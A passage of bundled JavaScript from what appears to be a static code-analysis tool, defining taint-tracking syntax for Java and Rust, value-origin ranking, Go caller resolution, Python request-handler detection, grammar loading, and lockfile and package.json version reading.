    call: (0,syntax_nodes/* fieldCall */.Dm)(['call_expression'], 'function', 'arguments', {
        selector_expression: ['operand', 'field'],
    }),
    member: (0,syntax_nodes/* fieldMember */.$N)({ selector_expression: ['operand', 'field'], index_expression: ['operand', 'index'] }),
    constantMembers: true,
};
const JAVA = {
    functions: ['method_declaration', 'constructor_declaration', 'lambda_expression'],
    names: ['identifier'],
    literals: [
        'string_literal',
        'text_block',
        'decimal_integer_literal',
        'decimal_floating_point_literal',
        'true',
        'false',
        'null_literal',
        'character_literal',
    ],
    interpolations: [],
    definitions: { variable_declarator: ['name', 'value'], assignment_expression: ['left', 'right'] },
    loops: { enhanced_for_statement: ['name', 'value'] },
    conditionals: { ternary_expression: ['consequence', 'alternative'] },
    binaries: ['binary_expression'],
    numericOperators: JAVA_NUMERIC,
    containers: ['parenthesized_expression', 'array_initializer', 'argument_list'],
    tainted: /^(System\.(getenv|getProperty|in)|\w+\.(getParameter|getHeader|getQueryString|getInputStream|getReader|getCookies))\b/,
    local: /^(System\.getProperty\("user\.dir"\))$/,
    passFunctions: /^(String\.(format|valueOf|join)|Paths\.get|Path\.of)$/,
    passMethods: /^(trim|strip|toString|toLowerCase|toUpperCase|formatted|concat|replace|resolve)$/,
    safeFunctions: /^((Integer|Long|Short|Byte|Double|Float|Boolean)\.(toString|parseInt|parseLong|valueOf))$/,
    safeMethods: /^(length|size|hashCode)$/,
    scalarTypes: /^(int|long|short|double|float|boolean|Integer|Long|Short|Double|Float|Boolean)$/,
    printf: /^String\.format$/,
    call: (node) => {
        if ((0,syntax_nodes/* kindOf */.I)(node) === 'object_creation_expression')
            return {
                callee: `new ${node.field('type')?.text() ?? ''}`,
                method: undefined,
                receiver: undefined,
                args: (0,syntax_nodes/* named */.KT)(node.field('arguments')),
            };
        if ((0,syntax_nodes/* kindOf */.I)(node) !== 'method_invocation')
            return undefined;
        const receiver = node.field('object') ?? undefined;
        const method = node.field('name')?.text() ?? '';
        return {
            callee: receiver ? `${receiver.text()}.${method}` : method,
            method: receiver ? method : undefined,
            receiver,
            args: (0,syntax_nodes/* named */.KT)(node.field('arguments')),
        };
    },
    member: (0,syntax_nodes/* fieldMember */.$N)({ field_access: ['object', 'field'], array_access: ['array', 'index'] }),
};
const RUST = {
    functions: ['function_item', 'closure_expression'],
    names: ['identifier'],
    literals: [
        'string_literal',
        'raw_string_literal',
        'integer_literal',
        'float_literal',
        'boolean_literal',
        'char_literal',
    ],
    interpolations: [],
    definitions: {
        let_declaration: ['pattern', 'value'],
        assignment_expression: ['left', 'right'],
        const_item: ['name', 'value'],
        static_item: ['name', 'value'],
    },
    loops: { for_expression: ['pattern', 'value'] },
    conditionals: {},
    binaries: ['binary_expression'],
    containers: [
        'parenthesized_expression',
        'array_expression',
        'arguments',
        'reference_expression',
        'token_tree',
    ],
    tainted: /^((std::)?env::(var|var_os|args|args_os|vars)|(std::)?io::stdin)\b/,
    local: /^((std::)?env::(current_dir|current_exe|temp_dir)\(\))$/,
    passFunctions: /^(format|String::from|PathBuf::from|Path::new)$/,
    passMethods: /^(as_str|to_string|to_owned|clone|display|trim|to_lowercase|to_uppercase|join|as_ref|into|to_str|unwrap|expect)$/,
    safeFunctions: /^$/,
    safeMethods: /^(len|count)$/,
    scalarTypes: /^&?([iu](8|16|32|64|128|size)|f32|f64|bool)$/,
    call: (node) => {
        if ((0,syntax_nodes/* kindOf */.I)(node) === 'macro_invocation') {
            // format!("{} {name}", a): one argument, the token tree (unparsed tokens, the format string first).
            const tree = (0,syntax_nodes/* named */.KT)(node).find((c) => (0,syntax_nodes/* kindOf */.I)(c) === 'token_tree');
            return {
                callee: node.field('macro')?.text() ?? '',
                method: undefined,
                receiver: undefined,
                args: tree ? [tree] : [],
            };
        }
        return (0,syntax_nodes/* fieldCall */.Dm)(['call_expression'], 'function', 'arguments', { field_expression: ['value', 'field'] })(node);
    },
    member: (0,syntax_nodes/* fieldMember */.$N)({ field_expression: ['value', 'field'], index_expression: ['0', '1'] }),
};
/** The flow syntax of each programming language; TypeScript and TSX share JavaScript's. */
const FLOW_SYNTAX = {
    javascript: JS,
    typescript: JS,
    tsx: JS,
    python: PYTHON,
    go: GO,
    java: JAVA,
    rust: RUST,
};


/***/ }),

/***/ 84774:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   NP: () => (/* binding */ isOwn),
/* harmony export */   TJ: () => (/* binding */ CONSTANT),
/* harmony export */   Vz: () => (/* binding */ RANK),
/* harmony export */   Xg: () => (/* binding */ JS_FAMILY),
/* harmony export */   h0: () => (/* binding */ short),
/* harmony export */   yX: () => (/* binding */ strongest)
/* harmony export */ });
/* harmony import */ var _cli_program_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(67036);

const JS_FAMILY = ['javascript', 'typescript', 'tsx'];
// A value of the program's own: a constant, a local path, or an untraced value built of its own state.
const isOwn = (g) => g.origin === 'constant' || g.origin === 'local' || (g.origin === 'unknown' && g.closed === true);
const RANK = { constant: 0, local: 1, unknown: 2, input: 3 };
const CONSTANT = { origin: 'constant', because: 'constants only' };
const short = (text) => {
    const line = text.replace(/\s+/g, ' ').trim();
    return `\`${line.length > 40 ? `${line.slice(0, 37)}...` : line}\``;
};
// Of two inputs: a request read outranks a function's argument, which outranks the operator's argv or
// environment (reach-policy.ts grades them in that order in app code, so `${process.env.BIN} ${req.query.f}`
// cannot hide the request behind the environment, nor the environment a served handler's argument).
// An argument whose every caller was read and passes no input ranks below them all.
function inputRank(g, language) {
    if (g.via !== 'source')
        return g.callers === undefined ? 1 : -1;
    return (0,_cli_program_js__WEBPACK_IMPORTED_MODULE_0__/* .isOperatorSource */ .GG)(g.source ?? '', language) ? 0 : 2;
}
function strongest(grades, language) {
    return grades.reduce((a, b) => {
        if (RANK[b.origin] !== RANK[a.origin])
            return RANK[b.origin] > RANK[a.origin] ? b : a;
        // Of two untraced parts, one that may hold a caller's value decides: the command is not closed.
        if (a.origin === 'unknown')
            return a.closed && !b.closed ? b : a;
        if (a.origin !== 'input')
            return a;
        return inputRank(b, language) > inputRank(a, language) ? b : a;
    }, CONSTANT);
}


/***/ }),

/***/ 24706:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   a: () => (/* binding */ namedByGoDirective),
/* harmony export */   y: () => (/* binding */ packageCallerArguments)
/* harmony export */ });
/* harmony import */ var _flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(59331);

/** Whether a Go name is unexported: it starts with a lower-case letter or `_` (the spec's rule). */
const unexported = (name) => /^[\p{Ll}_]/u.test(name);
/**
 * The values the calls in `fn`'s file and in `others` (every other file of its package) pass for
 * parameter `name` of `fn`, or undefined when they cannot all be seen: `fn` is exported (a lower-case
 * method is its package's like a function), the parameter is variadic, its name is used other than
 * as a call's callee (a callback, a method value, a field), a call passes another call's several
 * results (`f(g())`), or no call outside `fn` is found.
 */
function packageCallerArguments(fn, name, others) {
    const kind = (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(fn);
    const method = kind === 'method_declaration';
    if ((kind !== 'function_declaration' && !method) || (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(fn.parent() ?? fn) !== 'source_file')
        return undefined;
    const declared = fn.field('name');
    if (!declared || !unexported(declared.text()))
        return undefined;
    const roots = [fn.getRoot().root(), ...others];
    if (roots.some((root) => namedByGoDirective(root.text(), declared.text())))
        return undefined;
    const position = parameterPosition(fn, name);
    if (position === undefined)
        return undefined;
    const count = parameterCount(fn);
    const exactly = `^${declared.text()}$`;
    // A function is named by an identifier; a method by the field of a selector (`c.delete(\u2026)`), which
    // may be another type's method of the same name: its calls are counted too, which only adds values.
    const uses = { kind: method ? 'field_identifier' : 'identifier', regex: exactly };
    const passed = [];
    for (const [index, root] of roots.entries()) {
        const own = index === 0;
        for (const use of root.findAll({ rule: uses })) {
            if (own && (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .sameSpan */ .D4)(use, declared))
                continue;
            const callee = method ? use.parent() : use;
            const call = callee?.parent();
            // A method's name also appears in an interface's method list, a struct's field: no call there.
            if (method && callee && (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(callee) !== 'selector_expression') {
                if ((0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(callee) === 'method_elem' || (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(callee) === 'method_spec')
                    continue;
                return undefined;
            }
            if (!callee || !call || (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(call) !== 'call_expression' || !(0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .sameSpan */ .D4)(callee, call.field('function')))
                return undefined;
            // A recursive call passes on what the outer callers gave.
            if (own && (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .isWithin */ .UO)(call, fn))
                continue;
            const args = (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .named */ .KT)(call.field('arguments'));
            if (args.length !== count)
                return undefined;
            const arg = args[position];
            if (!arg)
                return undefined;
            passed.push(arg);
        }
    }
    return passed.length > 0 ? passed : undefined;
}
/**
 * Whether a file's directives name `name` as reachable from outside its package: `//export name`
 * (cgo), or a `//go:linkname` whose local name or target symbol (`pkg.name`, `pkg.(*T).name`) is it.
 * Directives are line comments that start the line, with no space after `//`.
 */
function namedByGoDirective(text, name) {
    for (const line of text.matchAll(/^[ \t]*\/\/(export|go:linkname)[ \t]+([^\n]*)/gm)) {
        const words = (line[2] ?? '').trim().split(/[ \t]+/);
        if (line[1] === 'export' ? words[0] === name : words.some((w) => w === name || w.endsWith(`.${name}`)))
            return true;
    }
    return false;
}
/** The parameters' names in order (`a, b string` binds two); undefined past a variadic one. */
function parameterNames(fn) {
    const names = [];
    for (const declaration of (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .named */ .KT)(fn.field('parameters'))) {
        if ((0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(declaration) !== 'parameter_declaration')
            return undefined;
        const bound = (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .named */ .KT)(declaration).filter((c) => (0,_flow_syntax_js__WEBPACK_IMPORTED_MODULE_0__/* .kindOf */ .I)(c) === 'identifier');
        // An unnamed parameter (`func f(int, string)`) still takes a position.
        names.push(...(bound.length > 0 ? bound.map((b) => b.text()) : ['_']));
    }
    return names;
}
function parameterPosition(fn, name) {
    const at = parameterNames(fn)?.indexOf(name);
    return at === undefined || at < 0 ? undefined : at;
}
function parameterCount(fn) {
    return parameterNames(fn)?.length ?? -1;
}


/***/ }),

/***/ 62140:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Xw: () => (/* binding */ readsHandlerRequest),
/* harmony export */   Y6: () => (/* binding */ PYTHON_REQUEST_READ),
/* harmony export */   jS: () => (/* binding */ PYTHON_HANDLER_CLASS)
/* harmony export */ });
/* unused harmony export PYTHON_REQUEST_FIELDS */
/** The attributes of a framework's request object that hold what the client sent. */
const PYTHON_REQUEST_FIELDS = [
    'args',
    'form',
    'values',
    'json',
    'data',
    'files',
    'cookies',
    'headers',
    'get_json',
    'get_data',
    'stream',
    'environ',
    'view_args',
    'url',
    'full_path',
    'query_string',
    'GET',
    'POST',
    'COOKIES',
    'META',
    'FILES',
    'body',
    'path_info',
    'query_params',
    'path_params',
];
/** `request.<field>` as a regular-expression alternative (unanchored, no word boundary around it). */
const PYTHON_REQUEST_READ = String.raw `request\.(?:${PYTHON_REQUEST_FIELDS.join('|')})`;
// What a request handler class reads of its own request: http.server's request line, headers and
// body stream; Tornado's argument and cookie getters.
const HANDLER_READ = /^self\.(?:(?:path|headers|rfile|requestline)\b|get_(?:query_|body_)?arguments?\(|get_(?:secure_)?cookie\()/;
// `class Api(BaseHTTPRequestHandler)`, `(http.server.SimpleHTTPRequestHandler)`, `(tornado.web.RequestHandler)`.
const HANDLER_BASE = /\w*RequestHandler$/;
/** A class declaration that subclasses a request handler, as a file-wide text test (entry-points.ts). */
const PYTHON_HANDLER_CLASS = String.raw `^\s*class\s+\w+\([^)]*RequestHandler\b`;
/**
 * Whether `node` (a Python expression) is a request handler's read of its own request: `self.path`,
 * `self.headers[\u2026]`, `self.rfile.read(n)`, `self.get_argument("q")`, in a method of a class whose
 * bases include a `\u2026RequestHandler`.
 */
function readsHandlerRequest(node) {
    if (!HANDLER_READ.test(node.text()))
        return false;
    const owner = node.ancestors().find((a) => a.kind() === 'class_definition');
    const bases = owner?.field('superclasses');
    if (!bases)
        return false;
    return bases
        .children()
        .filter((b) => b.isNamed())
        .some((b) => HANDLER_BASE.test(b.text()));
}


/***/ }),

/***/ 72296:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $N: () => (/* binding */ fieldMember),
/* harmony export */   D4: () => (/* binding */ sameSpan),
/* harmony export */   Dm: () => (/* binding */ fieldCall),
/* harmony export */   I: () => (/* binding */ kindOf),
/* harmony export */   KT: () => (/* binding */ named),
/* harmony export */   UO: () => (/* binding */ isWithin)
/* harmony export */ });
/** A node's kind as a plain string (the napi types narrow it to the grammar's kind names). */
const kindOf = (node) => String(node.kind());
/** The named children of a node, comments left out. */
const named = (node) => node ? node.children().filter((c) => c.isNamed() && !kindOf(c).includes('comment')) : [];
/** Whether `node` lies inside `outer` (or is it), by source range. */
function isWithin(node, outer) {
    if (!outer)
        return false;
    const [r, o] = [node.range(), outer.range()];
    return r.start.index >= o.start.index && r.end.index <= o.end.index;
}
/** Whether two nodes span the same source (napi hands out a new object for each lookup). */
function sameSpan(a, b) {
    if (!b)
        return false;
    const [r, o] = [a.range(), b.range()];
    return r.start.index === o.start.index && r.end.index === o.end.index;
}
/** A call whose callee sits in `fnField` and whose arguments in `argsField`; `dot` kinds make it a method call. */
function fieldCall(kinds, fnField, argsField, dot) {
    return (node) => {
        if (!kinds.includes(kindOf(node)))
            return undefined;
        const fn = node.field(fnField);
        if (!fn)
            return undefined;
        const parts = dot[kindOf(fn)];
        const receiver = parts ? (fn.field(parts[0]) ?? undefined) : undefined;
        const method = parts ? fn.field(parts[1])?.text() : undefined;
        return { callee: fn.text(), method, receiver, args: named(node.field(argsField)) };
    };
}
/** A member or index access whose object and name sit in the given fields of each kind. */
function fieldMember(kinds) {
    return (node) => {
        const parts = kinds[kindOf(node)];
        if (!parts)
            return undefined;
        const object = node.field(parts[0]) ?? named(node)[0];
        if (!object)
            return undefined;
        return { object, name: node.field(parts[1])?.text() ?? '' };
    };
}


/***/ }),

/***/ 21913:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Fw: () => (/* binding */ processLanguages),
/* harmony export */   Le: () => (/* binding */ grammarOf),
/* harmony export */   QR: () => (/* binding */ targetsOf),
/* harmony export */   Xg: () => (/* binding */ RULE_LANGUAGES),
/* harmony export */   aN: () => (/* binding */ isCodeLanguage),
/* harmony export */   eX: () => (/* binding */ languageOf),
/* harmony export */   zG: () => (/* binding */ napiLang)
/* harmony export */ });
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var _assets_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11465);
/* harmony import */ var _napi_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(77058);
/* harmony import */ var _native_header_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(7501);
/**
 * Which grammar parses which file, and the one-time registration of the dynamic grammars.
 */




/** Programming languages: what the static rules and the symbol finder (review/exec) parse as code. */
const LANGUAGES = ['typescript', 'tsx', 'javascript', 'python', 'go', 'java', 'rust'];
/** Every grammar a YAML rule may be written for: the programming languages plus YAML and Dart. */
const RULE_LANGUAGES = [...LANGUAGES, 'yaml', 'dart'];
/** Whether a rule's language is a programming language (one with code to trace), not YAML or Dart. */
const isCodeLanguage = (language) => LANGUAGES.includes(language);
const BY_EXTENSION = {
    ts: 'typescript',
    mts: 'typescript',
    cts: 'typescript',
    tsx: 'tsx',
    // tree-sitter-javascript parses JSX, so .jsx needs no grammar of its own.
    js: 'javascript',
    jsx: 'javascript',
    mjs: 'javascript',
    cjs: 'javascript',
    py: 'python',
    go: 'go',
    java: 'java',
    rs: 'rust',
};
const DATA_BY_EXTENSION = { yaml: 'yaml', yml: 'yaml', dart: 'dart' };
/** The programming language of a file by its extension, or undefined when it is none the static lens parses. */
function languageOf(filePath) {
    const ext = node_path__WEBPACK_IMPORTED_MODULE_0__.extname(filePath).slice(1).toLowerCase();
    return BY_EXTENSION[ext];
}
/** The grammar the YAML rules parse a file with (a programming language, YAML or Dart), or undefined. */
function grammarOf(filePath) {
    const ext = node_path__WEBPACK_IMPORTED_MODULE_0__.extname(filePath).slice(1).toLowerCase();
    return BY_EXTENSION[ext] ?? DATA_BY_EXTENSION[ext];
}
/**
 * The file languages a rule written for `ruleLanguage` runs on. JavaScript is (nearly) a subset of
 * TypeScript, so a `javascript` rule also checks TypeScript and TSX files; its patterns must therefore be
 * valid JavaScript. Patterns are compiled with the grammar of each file, not the rule's.
 */
function targetsOf(ruleLanguage) {
    if (ruleLanguage === 'javascript')
        return ['javascript', 'typescript', 'tsx'];
    if (ruleLanguage === 'typescript')
        return ['typescript', 'tsx'];
    return [ruleLanguage];
}
/** The name @ast-grep/napi knows a language by. */
function napiLang(language) {
    // The values of @ast-grep/napi's `Lang` enum, written out so that naming one loads no binding.
    if (language === 'typescript')
        return 'TypeScript';
    if (language === 'tsx')
        return 'Tsx';
    if (language === 'javascript')
        return 'JavaScript';
    return language;
}
const isDynamic = (language) => _assets_js__WEBPACK_IMPORTED_MODULE_1__/* .DYNAMIC_LANGUAGES */ .Iw.includes(language);
/** Where one grammar's library is, after its header was checked; else why it cannot load here. */
function grammarFor(language) {
    const found = (0,_assets_js__WEBPACK_IMPORTED_MODULE_1__/* .locateGrammar */ .kP)(language);
    if (!found.ok)
        return found;
    // A foreign or truncated library would abort the process inside registerDynamicLanguage.
    const header = (0,_native_header_js__WEBPACK_IMPORTED_MODULE_3__/* .checkNativeLibrary */ .n)(found.path);
    if (!header.ok)
        return { ok: false, reason: `the ${language} grammar cannot load: ${header.reason}` };
    return found;
}
/**
 * Registers every dynamic grammar whose library passes its header check, in one call. @ast-grep/napi
 * 0.51 honours only the first `registerDynamicLanguage` of a process (a later call registers
 * nothing), so it cannot add one language at a time: a process that reviews several changes (a
 * sweep) needs all of them. It runs on the first check of a dynamic language, so a docs-only or a
 * TypeScript-only change loads no grammar library at all, and the binding itself only when a file
 * is parsed.
 */
function registerDynamic() {
    const result = new Map();
    const binding = (0,_napi_js__WEBPACK_IMPORTED_MODULE_2__/* .loadNapi */ .vW)();
    if (!binding.ok)
        return result;
    const registrations = {};
    for (const language of _assets_js__WEBPACK_IMPORTED_MODULE_1__/* .DYNAMIC_LANGUAGES */ .Iw) {
        const found = grammarFor(language);
        if (!found.ok) {
            result.set(language, found);
            continue;
        }
        registrations[language] = { libraryPath: found.path, ..._assets_js__WEBPACK_IMPORTED_MODULE_1__/* .GRAMMAR_SPECS */ .z5[language] };
        result.set(language, { ok: true });
    }
    if (Object.keys(registrations).length === 0)
        return result;
    try {
        binding.napi.registerDynamicLanguage(registrations);
    }
    catch (error) {
        const reason = `grammars could not be registered: ${error instanceof Error ? error.message : String(error)}`;
        for (const language of Object.keys(registrations))
            result.set(language, { ok: false, reason });
    }
    return result;
}
let registered;
/** The process-wide language support: TypeScript and JavaScript are built in, the rest loaded on first use. */
const processLanguages = {
    check(language) {
        const binding = (0,_napi_js__WEBPACK_IMPORTED_MODULE_2__/* .loadNapi */ .vW)();
        if (!binding.ok)
            return { ok: false, reason: binding.reason };
        if (!isDynamic(language))
            return { ok: true };
        registered ??= registerDynamic();
        return registered.get(language) ?? { ok: false, reason: `no grammar for ${language}` };
    },
};


/***/ }),

/***/ 92033:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ lockedVersion),
/* harmony export */   d: () => (/* binding */ LOCKFILE_NAMES)
/* harmony export */ });
/* harmony import */ var _core_is_record_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(67501);
/**
 * The version of a package a lockfile installs for one folder of the repository: npm's
 * `package-lock.json` (v1 to v3), pnpm's `pnpm-lock.yaml` (v5 to v9) and Yarn's `yarn.lock` (classic
 * and Berry). Read line by line or as JSON, without a YAML parser: only one package's entry is wanted.
 */

/** The lockfile names, in the order they are looked for beside a manifest. */
const LOCKFILE_NAMES = ['package-lock.json', 'pnpm-lock.yaml', 'yarn.lock'];
/**
 * The version of `name` the lockfile installs for code in folder `dir` (a repository path), given the
 * spec that folder's manifest declares: a version; null when the lockfile lists every installed package
 * and not this one; undefined when it cannot tell (an unknown format, several candidates).
 */
function lockedVersion(lock, name, dir, spec) {
    const lockDir = lock.path.includes('/') ? lock.path.slice(0, lock.path.lastIndexOf('/')) : '';
    const inside = lockDir === ''
        ? dir
        : dir === lockDir
            ? ''
            : dir.startsWith(`${lockDir}/`)
                ? dir.slice(lockDir.length + 1)
                : null;
    if (inside === null)
        return undefined;
    const file = lock.path.slice(lock.path.lastIndexOf('/') + 1);
    if (file === 'package-lock.json')
        return npmLocked(lock, name, inside);
    if (file === 'pnpm-lock.yaml')
        return pnpmLocked(lock.text, name, inside);
    if (file === 'yarn.lock')
        return yarnLocked(lock.text, name, spec);
    return undefined;
}
const parsedNpm = new WeakMap();
/** npm: the `node_modules/<name>` entry Node's resolution finds first from `dir` upward (v2, v3); v1's top level. */
function npmLocked(lock, name, dir) {
    let json = parsedNpm.get(lock);
    if (json === undefined) {
        try {
            json = JSON.parse(lock.text);
        }
        catch {
            json = null;
        }
        parsedNpm.set(lock, json);
    }
    if (!(0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_0__/* .isRecord */ .u)(json))
        return undefined;
    const packages = json.packages;
    if ((0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_0__/* .isRecord */ .u)(packages)) {
        const parts = dir === '' ? [] : dir.split('/');
        for (let depth = parts.length; depth >= 0; depth--) {
            const prefix = parts.slice(0, depth).join('/');
            const entry = packages[`${prefix === '' ? '' : `${prefix}/`}node_modules/${name}`];
            if ((0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_0__/* .isRecord */ .u)(entry) && typeof entry.version === 'string')
                return checked(entry.version, entry.resolved);
        }
        return null;
    }
    const dependencies = json.dependencies;
    if (!(0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_0__/* .isRecord */ .u)(dependencies))
        return undefined;
    const entry = dependencies[name];
    return (0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_0__/* .isRecord */ .u)(entry) && typeof entry.version === 'string' ? checked(entry.version, entry.resolved) : null;
}
/**
 * The version, unless the tarball the entry resolves to names another one: what gets installed is the
 * `resolved` tarball (its integrity is checked against it, not against `version`), so a lockfile
 * edited to say 4.1.0 while resolving js-yaml-3.14.1.tgz tells nothing.
 */
function checked(version, resolved) {
    if (typeof resolved !== 'string')
        return version;
    const tarball = /\/-\/[^/]+?-(\d[^/#?]*)\.tgz(?:[#?]|$)/.exec(resolved);
    return tarball && tarball[1] !== version ? undefined : version;
}
/** pnpm: the version under the importer of `dir` (`importers:` since v5.3), else the top level (v5). */
function pnpmLocked(text, name, dir) {
    const lines = text.split('\n').map((l) => l.replace(/\r$/, ''));
    const key = (line) => line
        .trim()
        .replace(/:.*$/, '')
        .replace(/^['"]|['"]$/g, '');
    const depth = (line) => line.length - line.trimStart().length;
    const importers = lines.indexOf('importers:');
    let from = 0;
    let to = lines.length;
    let indent = 0;
    if (importers >= 0) {
        const importer = dir === '' ? '.' : dir;
        const head = lines.findIndex((l, i) => i > importers && depth(l) === 2 && key(l) === importer);
        if (head < 0)
            return undefined;
        const end = lines.findIndex((l, i) => i > head && l.trim() !== '' && depth(l) <= 2);
        [from, to, indent] = [head + 1, end < 0 ? lines.length : end, 4];
    }
    else if (dir !== '')
        return undefined;
    for (let i = from; i < to; i++) {
        const line = lines[i] ?? '';
        if (depth(line) !== indent ||
            !/^(?:dependencies|devDependencies|optionalDependencies):$/.test(line.trim()))
            continue;
        for (let j = i + 1; j < to; j++) {
            const entry = lines[j] ?? '';
            if (entry.trim() === '')
                continue;
            if (depth(entry) <= indent)
                break;
            if (depth(entry) !== indent + 2 || key(entry) !== name)
                continue;
            // pnpm 5: `js-yaml: 4.1.0`; pnpm 6 to 9: `specifier:` and `version:` lines below the name.
            const inline = /:\s*(\S+)$/.exec(entry.trim());
            if (inline?.[1])
                return inline[1].replace(/^['"]|['"]$/g, '');
            for (let k = j + 1; k < to && depth(lines[k] ?? '') > indent + 2; k++) {
                const version = /^\s*version:\s*['"]?([^'"\s]+)/.exec(lines[k] ?? '');
                if (version)
                    return version[1];
            }
            return undefined;
        }
    }
    return null;
}
/** Yarn: the entry whose header names `name@spec` (`name@npm:spec` in Berry); without a spec, the only entry. */
function yarnLocked(text, name, spec) {
    const lines = text.split('\n').map((l) => l.replace(/\r$/, ''));
    const candidates = [];
    for (const [i, line] of lines.entries()) {
        if (line.startsWith(' ') || !line.endsWith(':') || line.startsWith('#'))
            continue;
        const specs = line
            .slice(0, -1)
            .split(',')
            .map((s) => s.trim().replace(/^"|"$/g, ''))
            .filter((s) => s.startsWith(`${name}@`))
            .map((s) => s.slice(name.length + 1).replace(/^npm:/, ''));
        if (specs.length === 0)
            continue;
        let version;
        let resolved;
        for (let j = i + 1; j < lines.length && (lines[j] ?? '').startsWith(' '); j++) {
            version ??= /^\s+version:?\s+"?([^"\s]+)"?/.exec(lines[j] ?? '')?.[1];
            resolved ??= /^\s+resolved:?\s+"?([^"\s]+)"?/.exec(lines[j] ?? '')?.[1];
        }
        candidates.push({ specs, version: version === undefined ? undefined : checked(version, resolved) });
    }
    if (candidates.length === 0)
        return null;
    if (spec !== undefined)
        return candidates.find((c) => c.specs.includes(spec))?.version;
    return candidates.length === 1 ? candidates[0]?.version : undefined;
}


/***/ }),

/***/ 68501:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ng: () => (/* binding */ parseManifest),
/* harmony export */   Py: () => (/* binding */ dependencyGate),
/* harmony export */   _G: () => (/* binding */ packageGate),
/* harmony export */   lG: () => (/* binding */ scriptRunning),
/* harmony export */   uJ: () => (/* binding */ joinPath)
/* harmony export */ });
/* unused harmony exports filesRunBy, lowestVersion, compareVersions */
/* harmony import */ var _core_repo_path_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(36535);
/* harmony import */ var _lockfile_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(92033);
/* harmony import */ var _core_is_record_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(67501);
/**
 * What a JavaScript package's manifest says about a file, as the static lens reads it: which version
 * of a dependency is installed (Dependabot and OSV-Scanner read manifests and lockfiles; Semgrep
 * Supply Chain gates a rule on a dependency's version range) and which files its `scripts` run.
 * Pure: the review's stage reads the files (static-lens/manifest-reads.ts) and hands the facts in.
 *
 * A manifest is input a pull request can edit. The lockfile, which decides what `npm ci` installs,
 * outranks the manifest's range; the scripts are read from the base side only (the static lens's
 * stage), like the base's `.gitattributes` in the select stage: a PR cannot make its own server a
 * maintainer's script by adding a line to `package.json`.
 */



const DEPENDENCY_KEYS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'];
/** Parses a `package.json` in folder `dir`; null when it is no JSON object (a broken manifest says nothing). */
function parseManifest(text, dir) {
    let json;
    try {
        json = JSON.parse(text);
    }
    catch {
        return null;
    }
    if (!(0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_2__/* .isRecord */ .u)(json))
        return null;
    const dependencies = new Map();
    for (const key of DEPENDENCY_KEYS) {
        const block = json[key];
        if (!(0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_2__/* .isRecord */ .u)(block))
            continue;
        for (const [name, spec] of Object.entries(block))
            if (typeof spec === 'string' && !dependencies.has(name))
                dependencies.set(name, spec);
    }
    const scripts = new Map();
    if ((0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_2__/* .isRecord */ .u)(json.scripts))
        for (const [name, command] of Object.entries(json.scripts))
            if (typeof command === 'string')
                scripts.set(name, command);
    const bin = json.bin;
    const named = [json.main, json.module, ...((0,_core_is_record_js__WEBPACK_IMPORTED_MODULE_2__/* .isRecord */ .u)(bin) ? Object.values(bin) : [bin])];
    const entries = new Set(named.filter((n) => typeof n === 'string').map((n) => joinPath(dir, n)));
    return { dir, dependencies, scripts, entries, builderConfig: json.build };
}
/**
 * Whether the installed version of `name` is below `bound`, for a file whose manifests are `fact`:
 * `below` / `not-below` with the evidence, `absent` when no manifest of the chain declares it and the
 * lockfile does not hold it (not installed), `unknown` when nothing read can tell.
 */
function dependencyBelow(fact, name, bound) {
    const unknown = { state: 'unknown', evidence: `no readable \`package.json\` declares ${name}` };
    if (!fact)
        return unknown;
    const declaring = fact.chain.find((m) => m.dependencies.has(name));
